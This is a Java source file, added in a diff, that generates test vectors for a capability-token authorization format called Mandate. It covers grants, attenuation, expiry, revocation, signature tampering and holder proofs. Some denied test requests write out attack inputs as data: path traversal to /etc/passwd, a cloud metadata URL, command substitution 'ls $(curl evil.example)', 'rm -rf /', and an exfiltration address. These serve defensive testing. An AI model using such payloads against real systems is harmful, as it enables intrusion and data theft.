@@ -1,0 +1,846 @@
+package dev.mandate.token;
+
+import static dev.mandate.token.Fixtures.NOW;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import com.fasterxml.jackson.databind.node.TextNode;
+import dev.mandate.caveat.Caveat;
+import dev.mandate.caveat.Constraint;
+import dev.mandate.crypto.InsecureSecretKeyAccess;
+import dev.mandate.crypto.SigningKey;
+import java.math.BigDecimal;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+
+/**
+ * Generates the test vectors of docs/vectors/v1 deterministically: fixed keys, fixed clock, seeded
+ * randomness. The committed file must equal what this produces (see {@link VectorsTest}).
+ */
+final class VectorSet {
+  private static final ObjectMapper JSON = new ObjectMapper();
+  private static final JsonNodeFactory F = JsonNodeFactory.instance;
+
+  private final Map<String, SigningKey> keys = new LinkedHashMap<>();
+  private final ArrayNode cases = F.arrayNode();
+  private long seed = 1000;
+
+  private VectorSet() {
+    keys.put("root", Fixtures.key(1));
+    keys.put("other-root", Fixtures.key(2));
+    keys.put("agent", Fixtures.key(9));
+    keys.put("sub-agent", Fixtures.key(11));
+    keys.put("thief", Fixtures.key(10));
+  }
+
+  static ObjectNode generate() {
+    VectorSet v = new VectorSet();
+    v.all();
+    ObjectNode root = F.objectNode();
+    root.put("format", "mandate-test-vectors");
+    root.put("version", 1);
+    root.put(
+        "description",
+        "Mandate token format v1 test vectors. For each case: trust the listed root keys, set the"
+            + " clock to 'time', treat 'revoked' as revoked revocation ids, authorize 'request'"
+            + " with 'token' and 'proof', and compare with 'expected' (decision, code, block,"
+            + " caveat). 'revocationIds' lists the token's block revocation ids when it decodes."
+            + " Reasons are informative; codes are normative. See docs/spec.md.");
+    ObjectNode keyNode = root.putObject("keys");
+    v.keys.forEach(
+        (name, k) -> {
+          ObjectNode kn = keyNode.putObject(name);
+          kn.put("keyId", k.verifyingKey().keyId());
+          kn.put("public", k.verifyingKey().toText());
+          kn.put("private", k.toText(InsecureSecretKeyAccess.get()));
+        });
+    root.set("cases", v.cases);
+    return root;
+  }
+
+  private SigningKey k(String name) {
+    return keys.get(name);
+  }
+
+  private Capability.Minter mint() {
+    return Capability.mint(k("root")).clock(Fixtures.clock()).random(Fixtures.random(seed++));
+  }
+
+  private <B extends BlockSpec<B>> B fixed(B spec) {
+    return spec.clock(Fixtures.clock()).random(Fixtures.random(seed++));
+  }
+
+  private static ObjectNode req(String service, String action, String resource, ObjectNode args) {
+    ObjectNode r = F.objectNode();
+    r.put("service", service);
+    r.put("action", action);
+    r.put("resource", resource);
+    r.set("args", args == null ? F.objectNode() : args);
+    return r;
+  }
+
+  private static ObjectNode read(String path) {
+    return req("fs", "read_text_file", path, F.objectNode().put("path", path));
+  }
+
+  private static ObjectNode args(Object... kv) {
+    ObjectNode a = F.objectNode();
+    for (int i = 0; i < kv.length; i += 2) {
+      a.set((String) kv[i], JSON.valueToTree(kv[i + 1]));
+    }
+    return a;
+  }
+
+  static Request toRequest(JsonNode r) {
+    return new Request(
+        r.hasNonNull("audience") ? r.get("audience").asText() : null,
+        r.get("service").asText(),
+        r.get("action").asText(),
+        r.get("resource").asText(),
+        (ObjectNode) r.get("args"),
+        null);
+  }
+
+  private ObjectNode add(String id, String description, String token, ObjectNode request) {
+    ObjectNode c = cases.addObject();
+    c.put("id", String.format("%03d-%s", cases.size(), id));
+    c.put("description", description);
+    c.put("token", token);
+    ArrayNode trusted = c.putArray("trustedKeys");
+    trusted.add("root");
+    c.put("time", NOW.toString());
+    c.put("clockSkewSeconds", 30);
+    c.put("proofWindowSeconds", 60);
+    c.set("request", request);
+    c.putNull("proof");
+    c.putArray("revoked");
+    return c;
+  }
+
+  /** Completes a case by running Mandate's verifier and recording what it decides. */
+  private void finish(ObjectNode c) {
+    List<SigningKey> trusted = new ArrayList<>();
+    c.get("trustedKeys").forEach(n -> trusted.add(k(n.asText())));
+    List<String> revoked = new ArrayList<>();
+    c.get("revoked").forEach(n -> revoked.add(n.asText()));
+    Decision d = VectorsTest.decide(c, trusted, revoked);
+    ObjectNode e = c.putObject("expected");
+    e.put("decision", d.allowed() ? "allow" : "deny");
+    e.put("code", d.code().name());
+    e.put("block", d.block());
+    if (d.caveat() == null) {
+      e.putNull("caveat");
+    } else {
+      e.put("caveat", d.caveat());
+    }
+    e.put("reason", d.reason());
+    ArrayNode limits = e.putArray("useLimits");
+    d.useLimits()
+        .forEach(
+            u ->
+                limits
+                    .addObject()
+                    .put("revocationId", u.revocationId())
+                    .put("maxUses", u.maxUses()));
+    try {
+      Capability cap = Capability.decode(c.get("token").asText());
+      c.put("tokenId", cap.tokenId());
+      ArrayNode ids = c.putArray("revocationIds");
+      cap.revocationIds().forEach(ids::add);
+    } catch (InvalidTokenException ex) {
+      c.putNull("tokenId");
+      c.putNull("revocationIds");
+    }
+  }
+
+  private void simple(String id, String description, Capability cap, ObjectNode request) {
+    finish(add(id, description, cap.toText(), request));
+  }
+
+  private static String text(byte[] binary) {
+    return "mnd1_" + Base64.getUrlEncoder().withoutPadding().encodeToString(binary);
+  }
+
+  /** Builds and signs a token by hand, to express chains the builders refuse to make. */
+  private String handBuilt(List<byte[]> payloads, List<SigningKey> signers, byte[] secret) {
+    List<byte[]> sigs = new ArrayList<>();
+    byte[] previous = new byte[32];
+    for (int i = 0; i < payloads.size(); i++) {
+      byte[] message = Chain.message(previous, payloads.get(i));
+      sigs.add(signers.get(i).sign(message));
+      previous = Chain.sha256(message);
+    }
+    return text(Chain.assemble(payloads, sigs, secret));
+  }
+
+  private byte[] authorityPayload(List<Caveat> extra, byte[] nextKey, int flags) {
+    List<Caveat> caveats = new ArrayList<>(extra);
+    return Chain.payload(
+        0,
+        new byte[16],
+        k("root").verifyingKey().keyId(),
+        NOW,
+        List.of(Grant.parse("fs:*:/data/**")),
+        caveats,
+        nextKey,
+        flags);
+  }
+
+  private void all() {
+    Capability base =
+        mint()
+            .allow("fs:{read_text_file,list_directory}:/data/invoices/**")
+            .ttl(Duration.ofHours(1))
+            .sign();
+    simple("allow-basic", "a grant covers the request", base, read("/data/invoices/2024/jan.pdf"));
+    simple(
+        "allow-brace-action",
+        "a brace set in the action matches list_directory",
+        base,
+        req("fs", "list_directory", "/data/invoices/2024", args("path", "/data/invoices/2024")));
+    simple(
+        "deny-other-action",
+        "write_file is not granted",
+        base,
+        req("fs", "write_file", "/data/invoices/2024/x", args("path", "/data/invoices/2024/x")));
+    simple(
+        "deny-other-service",
+        "the grant names service fs only",
+        base,
+        req("mail", "read_text_file", "/data/invoices/2024/x", null));
+    simple("deny-outside-path", "a path outside the grant", base, read("/data/hr/salaries.csv"));
+    simple(
+        "deny-traversal",
+        "'..' is resolved before matching",
+        base,
+        read("/data/invoices/../hr/salaries.csv"));
+    simple(
+        "deny-traversal-above-root",
+        "'..' above the root is refused",
+        base,
+        read("/data/invoices/../../../../etc/passwd"));
+    simple(
+        "deny-encoded-separator",
+        "%2f is refused in path resources",
+        base,
+        read("/data/invoices/..%2f..%2fhr/salaries.csv"));
+    simple(
+        "deny-encoded-dots",
+        "%2e%2e is refused in path resources",
+        base,
+        read("/data/invoices/%2e%2e/hr/salaries.csv"));
+    simple(
+        "deny-backslash",
+        "a backslash is refused in path resources",
+        base,
+        read("/data/invoices/..\\hr\\salaries.csv"));
+    simple(
+        "deny-fullwidth-solidus",
+        "compatibility characters (NFKC) are refused",
+        base,
+        read("/data/invoices/2024\uff0f..\uff0f..\uff0fhr"));
+    simple(
+        "deny-case-variant",
+        "matching is case-sensitive",
+        base,
+        read("/data/INVOICES/2024/jan.pdf"));
+    simple(
+        "deny-dotless-i",
+        "no Unicode case folding: U+0131 is not i",
+        base,
+        read("/data/\u0131nvoices/2024/jan.pdf"));
+    simple("allow-double-slash", "'//' collapses", base, read("/data//invoices/./2024/jan.pdf"));
+
+    Capability two =
+        fixed(base.attenuate())
+            .allow("fs:read_text_file:/data/invoices/2024/**")
+            .ttl(Duration.ofMinutes(10))
+            .sign();
+    Capability three =
+        fixed(two.attenuate()).allow("fs:read_text_file:/data/invoices/2024/q1/**").sign();
+    simple(
+        "allow-three-blocks",
+        "every block's grants cover the request",
+        three,
+        read("/data/invoices/2024/q1/jan.pdf"));
+    simple(
+        "deny-three-blocks-last",
+        "the last block narrows further",
+        three,
+        read("/data/invoices/2024/q2/apr.pdf"));
+    Capability widened = fixed(two.attenuate()).allow("fs:*:**").allow("mail:send:*").sign();
+    simple(
+        "deny-widening",
+        "an attenuation cannot widen: 2023 stays denied",
+        widened,
+        read("/data/invoices/2023/dec.pdf"));
+    simple(
+        "deny-widening-service",
+        "an attenuation cannot add a service",
+        widened,
+        req("mail", "send", "bob@example.com", null));
+
+    ObjectNode c =
+        add(
+            "deny-expired",
+            "authority expiry passed (beyond 30 s skew)",
+            base.toText(),
+            read("/data/invoices/2024/jan.pdf"));
+    c.put("time", NOW.plus(Duration.ofHours(1)).plusSeconds(31).toString());
+    finish(c);
+    c =
+        add(
+            "allow-within-skew",
+            "20 s past expiry is within 30 s skew",
+            base.toText(),
+            read("/data/invoices/2024/jan.pdf"));
+    c.put("time", NOW.plus(Duration.ofHours(1)).plusSeconds(20).toString());
+    finish(c);
+    c =
+        add(
+            "deny-expired-attenuation",
+            "block 1's shorter lifetime passed",
+            two.toText(),
+            read("/data/invoices/2024/jan.pdf"));
+    c.put("time", NOW.plus(Duration.ofMinutes(20)).toString());
+    finish(c);
+    c =
+        add(
+            "deny-expired-zero-skew",
+            "no skew configured",
+            base.toText(),
+            read("/data/invoices/2024/jan.pdf"));
+    c.put("time", NOW.plus(Duration.ofHours(1)).plusSeconds(1).toString());
+    c.put("clockSkewSeconds", 0);
+    finish(c);
+
+    simple(
+        "deny-not-yet-valid",
+        "not-before in the future",
+        mint()
+            .allow("fs:*:/data/**")
+            .ttl(Duration.ofHours(2))
+            .notBefore(NOW.plusSeconds(600))
+            .sign(),
+        read("/data/a"));
+
+    Capability aud =
+        mint().allow("fs:*:/data/**").ttl(Duration.ofHours(1)).audience("gw-eu", "gw-us").sign();
+    ObjectNode r = read("/data/a");
+    r.put("audience", "gw-us");
+    simple("allow-audience", "the audience is listed", aud, r);
+    r = read("/data/a");
+    r.put("audience", "gw-asia");
+    simple("deny-audience", "the audience is not listed", aud, r);
+    simple("deny-audience-missing", "an audience caveat needs an audience", aud, read("/data/a"));
+
+    Capability exact =
+        mint()
+            .allow("db:query:*")
+            .ttl(Duration.ofHours(1))
+            .constrain("/mode", new Constraint.Exact(TextNode.valueOf("read")))
+            .sign();
+    simple(
+        "allow-arg-exact",
+        "exact string",
+        exact,
+        req("db", "query", "orders", args("mode", "read")));
+    simple(
+        "deny-arg-exact",
+        "exact string differs",
+        exact,
+        req("db", "query", "orders", args("mode", "write")));
+    simple(
+        "deny-arg-missing",
+        "a constrained argument must be present",
+        exact,
+        req("db", "query", "orders", null));
+    Capability oneOf =
+        mint()
+            .allow("db:query:*")
+            .ttl(Duration.ofHours(1))
+            .constrain(
+                "/limit",
+                new Constraint.OneOf(List.of(JSON.valueToTree(10), JSON.valueToTree(100))))
+            .sign();
+    simple(
+        "allow-arg-one-of-number",
+        "numbers compare by value (100.0 = 100)",
+        oneOf,
+        req("db", "query", "orders", args("limit", new BigDecimal("100.0"))));
+    simple(
+        "deny-arg-one-of-string",
+        "a string is not a number",
+        oneOf,
+        req("db", "query", "orders", args("limit", "10")));
+    Capability glob =
+        mint()
+            .allow("mail:send:*")
+            .ttl(Duration.ofHours(1))
+            .constrain("/to", new Constraint.Glob("*@example.com"))
+            .sign();
+    simple(
+        "allow-arg-glob",
+        "glob over an email",
+        glob,
+        req("mail", "send", "outbox", args("to", "bob@example.com")));
+    simple(
+        "deny-arg-glob",
+        "exfiltration address",
+        glob,
+        req("mail", "send", "outbox", args("to", "eve@evil.example")));
+    Capability prefix =
+        mint()
+            .allow("kv:get:*")
+            .ttl(Duration.ofHours(1))
+            .constrain("/key", new Constraint.Prefix("tenant-42/"))
+            .sign();
+    simple("deny-arg-prefix", "prefix", prefix, req("kv", "get", "k", args("key", "tenant-43/x")));
+    Capability regex =
+        mint()
+            .allow("issue:get:*")
+            .ttl(Duration.ofHours(1))
+            .constrain("/id", new Constraint.Regex("[A-Z]+-[0-9]{1,6}"))
+            .sign();
+    simple(
+        "allow-arg-regex",
+        "whole-string RE2 match",
+        regex,
+        req("issue", "get", "x", args("id", "SEC-42")));
+    simple(
+        "deny-arg-regex-partial",
+        "the regex must match the whole value",
+        regex,
+        req("issue", "get", "x", args("id", "SEC-42; drop")));
+    Capability range =
+        mint()
+            .allow("bank:transfer:*")
+            .ttl(Duration.ofHours(1))
+            .constrain("/amount", new Constraint.Range(BigDecimal.ZERO, new BigDecimal("100")))
+            .sign();
+    simple(
+        "allow-arg-range",
+        "within range",
+        range,
+        req("bank", "transfer", "acct-1", args("amount", 99.5)));
+    simple(
+        "deny-arg-range",
+        "above range",
+        range,
+        req("bank", "transfer", "acct-1", args("amount", 100.01)));
+    Capability cidr =
+        mint()
+            .allow("net:connect:*")
+            .ttl(Duration.ofHours(1))
+            .constrain("/ip", new Constraint.CidrSet(List.of("203.0.113.0/24")))
+            .sign();
+    simple(
+        "allow-arg-cidr",
+        "inside the block",
+        cidr,
+        req("net", "connect", "x", args("ip", "203.0.113.7")));
+    simple(
+        "deny-arg-cidr-octal",
+        "octal IPv4 forms are not addresses",
+        cidr,
+        req("net", "connect", "x", args("ip", "0313.0.113.7")));
+    Capability within =
+        mint()
+            .allow("fs:write_file:**")
+            .ttl(Duration.ofHours(1))
+            .constrain("/path", new Constraint.PathWithin("/work/out"))
+            .sign();
+    simple(
+        "allow-arg-path-within",
+        "inside the base",
+        within,
+        req("fs", "write_file", "/work/out/a.txt", args("path", "/work/out/a.txt")));
+    simple(
+        "deny-arg-path-within-traversal",
+        "traversal out of the base",
+        within,
+        req("fs", "write_file", "/work/out/a.txt", args("path", "/work/out/../../etc/cron.d/x")));
+    Capability url =
+        mint()
+            .allow("http:fetch:*")
+            .ttl(Duration.ofHours(1))
+            .constrain("/url", new Constraint.Url(List.of("https"), List.of("api.example.com")))
+            .sign();
+    simple(
+        "allow-arg-url",
+        "allowed scheme and host",
+        url,
+        req("http", "fetch", "x", args("url", "https://api.example.com/v1/items")));
+    simple(
+        "deny-arg-url-metadata",
+        "cloud metadata address",
+        url,
+        req("http", "fetch", "x", args("url", "https://169.254.169.254/latest/meta-data/")));
+    simple(
+        "deny-arg-url-userinfo",
+        "userinfo tricks",
+        url,
+        req("http", "fetch", "x", args("url", "https://api.example.com@evil.example/")));
+    Capability shell =
+        mint()
+            .allow("sh:run:*")
+            .ttl(Duration.ofHours(1))
+            .constrain("/cmd", new Constraint.Shell(List.of("ls", "git")))
+            .sign();
+    simple(
+        "allow-arg-shell",
+        "allowed program, plain words",
+        shell,
+        req("sh", "run", "x", args("cmd", "git log --oneline 'a b'")));
+    simple(
+        "deny-arg-shell-metachar",
+        "command substitution",
+        shell,
+        req("sh", "run", "x", args("cmd", "ls $(curl evil.example)")));
+    simple(
+        "deny-arg-shell-program",
+        "program not on the list",
+        shell,
+        req("sh", "run", "x", args("cmd", "rm -rf /")));
+    Capability combo =
+        mint()
+            .allow("mail:send:*")
+            .ttl(Duration.ofHours(1))
+            .constrain(
+                "/to",
+                new Constraint.AllOf(
+                    List.of(
+                        new Constraint.AnyOf(
+                            List.of(
+                                new Constraint.Glob("*@example.com"),
+                                new Constraint.Glob("*@example.org"))),
+                        new Constraint.Not(
+                            new Constraint.Exact(TextNode.valueOf("ceo@example.com"))))))
+            .sign();
+    simple(
+        "allow-arg-combinators",
+        "any-of and not",
+        combo,
+        req("mail", "send", "o", args("to", "ann@example.org")));
+    simple(
+        "deny-arg-combinators-not",
+        "the negated value",
+        combo,
+        req("mail", "send", "o", args("to", "ceo@example.com")));
+
+    Capability cond =
+        mint()
+            .allow("bank:transfer:*")
+            .ttl(Duration.ofHours(1))
+            .where("args.amount <= 100 && args.currency == 'EUR'")
+            .sign();
+    simple(
+        "allow-condition",
+        "CEL condition true",
+        cond,
+        req("bank", "transfer", "a", args("amount", 20, "currency", "EUR")));
+    simple(
+        "deny-condition",
+        "CEL condition false",
+        cond,
+        req("bank", "transfer", "a", args("amount", 20, "currency", "USD")));
+    simple(
+        "deny-condition-missing-key",
+        "a missing key fails closed",
+        cond,
+        req("bank", "transfer", "a", args("amount", 20)));
+
+    Capability uses = mint().allow("fs:*:/data/**").ttl(Duration.ofHours(1)).maxUses(3).sign();
+    simple(
+        "allow-max-uses-reported",
+        "max uses is reported for the gateway to count",
+        uses,
+        read("/data/a"));
+
+    ObjectNode revokedCase =
+        add(
+            "deny-revoked-parent",
+            "revoking block 0 cascades to every descendant",
+            three.toText(),
+            read("/data/invoices/2024/q1/jan.pdf"));
+    ((ArrayNode) revokedCase.get("revoked")).add(three.revocationIds().get(0));
+    finish(revokedCase);
+    revokedCase =
+        add(
+            "deny-revoked-middle",
+            "revoking block 1",
+            three.toText(),
+            read("/data/invoices/2024/q1/jan.pdf"));
+    ((ArrayNode) revokedCase.get("revoked")).add(three.revocationIds().get(1));
+    finish(revokedCase);
+
+    c =
+        add(
+            "deny-unknown-root",
+            "signed by an untrusted root key",
+            Capability.mint(k("other-root"))
+                .clock(Fixtures.clock())
+                .random(Fixtures.random(seed++))
+                .allow("fs:*:/data/**")
+                .ttl(Duration.ofHours(1))
+                .sign()
+                .toText(),
+            read("/data/a"));
+    finish(c);
+
+    byte[] flipped = three.toBytes();
+    int sigAt = 4 + (((flipped[2] & 0xFF) << 8) | (flipped[3] & 0xFF)) + 10;
+    flipped[sigAt] ^= 0x40;
+    finish(
+        add(
+            "deny-bad-signature",
+            "one bit of block 0's signature flipped",
+            text(flipped),
+            read("/data/invoices/2024/q1/jan.pdf")));
+    byte[] grantEdit = three.toBytes();
+    String asLatin = new String(grantEdit, java.nio.charset.StandardCharsets.ISO_8859_1);
+    int at = asLatin.indexOf("/q1/");
+    grantEdit[at + 2] = '2';
+    finish(
+        add(
+            "deny-edited-grant",
+            "block 2's grant edited from q1 to q2",
+            text(grantEdit),
+            read("/data/invoices/2024/q2/apr.pdf")));
+
+    Chain ch = three.chain();
+    finish(
+        add(
+            "deny-block-removed",
+            "the last block removed; the old secret no longer matches",
+            text(
+                Chain.assemble(
+                    List.of(ch.payloadOf(0), ch.payloadOf(1)),
+                    List.of(ch.links.get(0).signature(), ch.links.get(1).signature()),
+                    ch.secret)),
+            read("/data/invoices/2024/q2/apr.pdf")));
+    finish(
+        add(
+            "deny-blocks-reordered",
+            "blocks 1 and 2 swapped",
+            text(
+                Chain.assemble(
+                    List.of(ch.payloadOf(0), ch.payloadOf(2), ch.payloadOf(1)),
+                    List.of(
+                        ch.links.get(0).signature(),
+                        ch.links.get(2).signature(),
+                        ch.links.get(1).signature()),
+                    ch.secret)),
+            read("/data/invoices/2024/q1/jan.pdf")));
+    Capability otherBase = mint().allow("fs:*:/data/**").ttl(Duration.ofHours(1)).sign();
+    finish(
+        add(
+            "deny-spliced",
+            "block 1 of one token spliced onto another token's authority block",
+            text(
+                Chain.assemble(
+                    List.of(otherBase.chain().payloadOf(0), ch.payloadOf(1)),
+                    List.of(
+                        otherBase.chain().links.get(0).signature(), ch.links.get(1).signature()),
+                    two.chain().secret)),
+            read("/data/invoices/2024/jan.pdf")));
+
+    byte[] v2 = base.toBytes();
+    v2[0] = 2;
+    finish(
+        add(
+            "deny-unknown-version",
+            "format version 2 is unknown",
+            text(v2),
+            read("/data/invoices/a")));
+
+    SigningKey eph = SigningKey.generate(Fixtures.random(seed++));
+    byte[] unknownCaveat =
+        authorityPayload(
+            List.of(new Caveat.Expiry(NOW.plusSeconds(3600))), eph.verifyingKey().bytes(), 0);
+    // Append a caveat of unknown kind 99 by rewriting the caveat count and body.
+    unknownCaveat = withExtraCaveat(unknownCaveat, 99);
+    finish(
+        add(
+            "deny-unknown-caveat",
+            "caveat kind 99 is unknown, so the token is denied",
+            handBuilt(
+                List.of(unknownCaveat),
+                List.of(k("root")),
+                eph.seed(InsecureSecretKeyAccess.get())),
+            read("/data/a")));
+
+    byte[] noExpiry = authorityPayload(List.of(), eph.verifyingKey().bytes(), 0);
+    finish(
+        add(
+            "deny-no-expiry",
+            "an authority block without expiry is malformed",
+            handBuilt(
+                List.of(noExpiry), List.of(k("root")), eph.seed(InsecureSecretKeyAccess.get())),
+            read("/data/a")));
+
+    byte[] depthZero =
+        authorityPayload(
+            List.of(new Caveat.Expiry(NOW.plusSeconds(3600)), new Caveat.MaxDepth(0)),
+            eph.verifyingKey().bytes(),
+            0);
+    SigningKey eph2 = SigningKey.generate(Fixtures.random(seed++));
+    byte[] extra =
+        Chain.payload(1, null, null, null, List.of(), List.of(), eph2.verifyingKey().bytes(), 0);
+    finish(
+        add(
+            "deny-max-depth",
+            "max-depth 0 in block 0 but a block follows",
+            handBuilt(
+                List.of(depthZero, extra),
+                List.of(k("root"), eph),
+                eph2.seed(InsecureSecretKeyAccess.get())),
+            read("/data/a")));
+
+    byte[] sealedPayload =
+        authorityPayload(
+            List.of(new Caveat.Expiry(NOW.plusSeconds(3600))),
+            eph.verifyingKey().bytes(),
+            Chain.FLAG_SEALED);
+    finish(
+        add(
+            "deny-block-after-seal",
+            "a block follows a sealed block",
+            handBuilt(
+                List.of(sealedPayload, extra),
+                List.of(k("root"), eph),
+                eph2.seed(InsecureSecretKeyAccess.get())),
+            read("/data/a")));
+    simple(
+        "allow-sealed",
+        "a sealed token still authorizes",
+        fixed(base.attenuate()).seal().sign(),
+        read("/data/invoices/a"));
+
+    String b = base.toText();
+    finish(
+        add(
+            "deny-truncated",
+            "the text form cut short",
+            b.substring(0, b.length() - 7),
+            read("/data/invoices/a")));
+    finish(
+        add("deny-padded-base64", "padding is not canonical", b + "=", read("/data/invoices/a")));
+    finish(
+        add("deny-wrong-prefix", "not a Mandate token", "Bearer " + b, read("/data/invoices/a")));
+
+    SigningKey agent = k("agent");
+    Capability bound =
+        mint()
+            .allow("fs:read_text_file:/data/**")
+            .ttl(Duration.ofHours(1))
+            .bindTo(agent.verifyingKey())
+            .sign();
+    simple("deny-holder-no-proof", "a bound token needs a proof", bound, read("/data/a.txt"));
+    ObjectNode pr = read("/data/a.txt");
+    c = add("allow-holder-proof", "a fresh proof by the holder", bound.toText(), pr);
+    c.put(
+        "proof",
+        Proof.create(
+            agent, bound.toText(), toRequest(pr), NOW.minusSeconds(5), Fixtures.random(seed++)));
+    finish(c);
+    c =
+        add(
+            "deny-holder-proof-other-args",
+            "a proof for other arguments",
+            bound.toText(),
+            read("/data/b.txt"));
+    c.put(
+        "proof", Proof.create(agent, bound.toText(), toRequest(pr), NOW, Fixtures.random(seed++)));
+    finish(c);
+    c = add("deny-holder-proof-stale", "a proof older than the window", bound.toText(), pr);
+    c.put(
+        "proof",
+        Proof.create(
+            agent, bound.toText(), toRequest(pr), NOW.minusSeconds(200), Fixtures.random(seed++)));
+    finish(c);
+    c = add("deny-holder-proof-thief", "a proof by another key", bound.toText(), pr);
+    c.put(
+        "proof",
+        Proof.create(k("thief"), bound.toText(), toRequest(pr), NOW, Fixtures.random(seed++)));
+    finish(c);
+
+    Capability delegated =
+        fixed(bound.attenuate())
+            .allow("fs:read_text_file:/data/invoices/**")
+            .bindTo(k("sub-agent").verifyingKey())
+            .sign(agent);
+    ObjectNode dr = read("/data/invoices/a.pdf");
+    c = add("allow-delegated", "the sub-agent proves with its own key", delegated.toText(), dr);
+    c.put(
+        "proof",
+        Proof.create(
+            k("sub-agent"), delegated.toText(), toRequest(dr), NOW, Fixtures.random(seed++)));
+    finish(c);
+    c =
+        add(
+            "deny-delegated-parent-key",
+            "the parent's key is no longer the holder",
+            delegated.toText(),
+            dr);
+    c.put(
+        "proof",
+        Proof.create(agent, delegated.toText(), toRequest(dr), NOW, Fixtures.random(seed++)));
+    finish(c);
+
+    byte[] rebind =
+        Chain.payload(
+            1,
+            null,
+            null,
+            null,
+            List.of(),
+            List.of(),
+            k("thief").verifyingKey().bytes(),
+            Chain.FLAG_HOLDER);
+    String rebound =
+        handBuilt(
+            List.of(bound.chain().payloadOf(0), rebind), List.of(k("root"), k("thief")), null);
+    c = add("deny-rebind-by-thief", "a thief re-binds a stolen token to its own key", rebound, pr);
+    c.put("proof", Proof.create(k("thief"), rebound, toRequest(pr), NOW, Fixtures.random(seed++)));
+    finish(c);
+  }
+
+  /** Returns the payload with one more caveat of the given unknown kind (empty body). */
+  private static byte[] withExtraCaveat(byte[] payload, int kind) {
+    // Authority payload layout: kind(1) tokenId(16) keyId(str) issuedAt(8) grants caveats
+    // nextKey(32) flags(1).
+    ByteReader in = new ByteReader(payload, 0, payload.length);
+    in.u8("kind");
+    in.raw(16, "id");
+    in.str("kid");
+    in.i64("iat");
+    int grants = in.u16("grants");
+    for (int i = 0; i < grants; i++) {
+      in.str("grant");
+    }
+    int countAt = in.position();
+    int count = payload[countAt] & 0xFF;
+    byte[] tail = new byte[33];
+    System.arraycopy(payload, payload.length - 33, tail, 0, 33);
+    ByteWriter out = new ByteWriter();
+    out.raw(java.util.Arrays.copyOfRange(payload, 0, countAt));
+    out.u8(count + 1);
+    out.raw(java.util.Arrays.copyOfRange(payload, countAt + 1, payload.length - 33));
+    out.u8(kind).u16(0);
+    out.raw(tail);
+    return out.toByteArray();
+  }
+
+  static Instant time(JsonNode c) {
+    return Instant.parse(c.get("time").asText());
+  }
+}
